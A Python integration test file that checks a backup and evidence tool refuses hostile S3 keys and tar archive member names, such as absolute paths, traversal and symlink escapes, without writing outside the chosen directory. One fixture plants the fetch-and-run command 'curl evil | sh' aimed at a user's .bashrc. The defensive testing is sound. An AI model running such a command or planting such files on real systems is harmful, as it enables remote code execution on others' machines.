"""Hostile names from a real store: moto's S3 server over HTTP, real tar archives, the real CLI.

Whoever may put objects under `evidence/` or `logs/` (the backup writer's credentials) chooses the
keys and the tar members' names. Each hostile name is refused with one line, nothing is written
outside the directory the caller gave, and the good objects beside it are still handled.
"""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest

from harness.backup.log_archive import verify_log_day
from harness.backup.store import open_store
from harness.cli import main
from harness.evidence.bundle import build_bundle
from harness.evidence.record import ScenarioRecord
from harness.evidence.upload import upload_bundle
from tests.hostile_names import (
    DAY,
    GOOD_LOG,
    PWNED,
    hostile_names,
    put_log_day,
    pwned_anywhere,
    snapshot,
    special_members,
    tar_member_names,
)

pytestmark = pytest.mark.integration


def _stored_chain(tmp_path: Path, bucket: str) -> None:
    record = ScenarioRecord(name="Backup verification", feature="Monthly DR drill", tags=("monthly",))
    for n in (1, 2):
        bundle = build_bundle([record], out_root=tmp_path / "built", meta={"run_id": f"run-{n}", "target": "staging"},
                              env={})
        upload_bundle(bundle, f"s3://{bucket}/drills", trusted_keys=[])


def test_a_key_that_starts_with_a_slash_is_not_written_on_the_auditors_machine(
        tmp_path: Path, aws_env: str, s3: Any, bucket: str, capsys: pytest.CaptureFixture[str]) -> None:
    _stored_chain(tmp_path, bucket)
    target = tmp_path / "home" / "auditor" / ".bashrc"
    s3.put_object(Bucket=bucket, Key=f"drills/evidence/{target}", Body=b"curl evil | sh\n")  # evidence//tmp/…

    code = main(["evidence", "verify", "--chain", f"s3://{bucket}/drills"])

    assert not target.exists()
    err = capsys.readouterr().err
    assert code == 1
    assert f"problem: refused: s3://{bucket}/drills/evidence/{target}" in err


def test_every_hostile_key_under_evidence_is_refused_and_the_chain_beside_it_still_verified(
        tmp_path: Path, aws_env: str, s3: Any, bucket: str, capsys: pytest.CaptureFixture[str]) -> None:
    _stored_chain(tmp_path, bucket)
    outside = tmp_path / "outside"
    outside.mkdir()
    # a NUL key is left to the unit corpus: moto's server answers ListObjectVersions with a 500 once one is stored
    names = {case: name for case, name in hostile_names(outside).items() if case != "nul"}
    for name in names.values():
        s3.put_object(Bucket=bucket, Key=f"drills/evidence/{name}", Body=b"planted\n")
    listed = {o["Key"] for o in s3.list_objects_v2(Bucket=bucket, Prefix="drills/evidence/")["Contents"]}
    assert {f"drills/evidence/{name}" for name in names.values()} <= listed  # stored as written, not normalized
    before = snapshot(tmp_path, leaving_out=tmp_path / "built")

    code = main(["evidence", "verify", "--chain", f"s3://{bucket}/drills", "--allow-unanchored"])

    out, err = capsys.readouterr()
    assert code == 1, err
    refused = [line for line in err.splitlines() if line.startswith("problem: refused: ")]
    assert len(refused) == len(names), err
    for name in names.values():
        assert any(line.startswith(f"problem: refused: s3://{bucket}/drills/evidence/{name}: ") for line in refused)
    assert "#1 run-1  ok" in out and "#2 run-2  ok" in out  # the good bundles were fetched and checked
    assert snapshot(tmp_path, leaving_out=tmp_path / "built") == before and pwned_anywhere(tmp_path) == []


def test_a_log_day_in_s3_with_hostile_members_fails_and_restores_only_the_good_member(
        tmp_path: Path, aws_env: str, bucket: str) -> None:
    store = open_store(f"s3://{bucket}/logs-test")
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "secret").write_text("the host's own file\n")
    restored = tmp_path / "restored"
    restored.mkdir()
    (restored / "linked-dir").symlink_to(outside, target_is_directory=True)
    names = tar_member_names(outside)
    members = {GOOD_LOG: b"good\n", **{name: b"hostile\n" for name in names.values()},
               f"linked-dir/{PWNED}": b"through a link\n"}
    work = tmp_path / "work"
    work.mkdir()
    put_log_day(store, work, members, special_members(outside))
    before = snapshot(tmp_path, leaving_out=restored)

    check = verify_log_day(store, "audit", DAY, restore_to=restored)

    assert not check.passed
    assert len(check.problems) == len(names) + 1 + len(special_members(outside))
    assert all(p.startswith("refused archive member ") and "\n" not in p for p in check.problems)
    assert (restored / GOOD_LOG).read_bytes() == b"good\n"
    assert snapshot(tmp_path, leaving_out=restored) == before and pwned_anywhere(tmp_path) == []
    assert (outside / "secret").read_text() == "the host's own file\n"
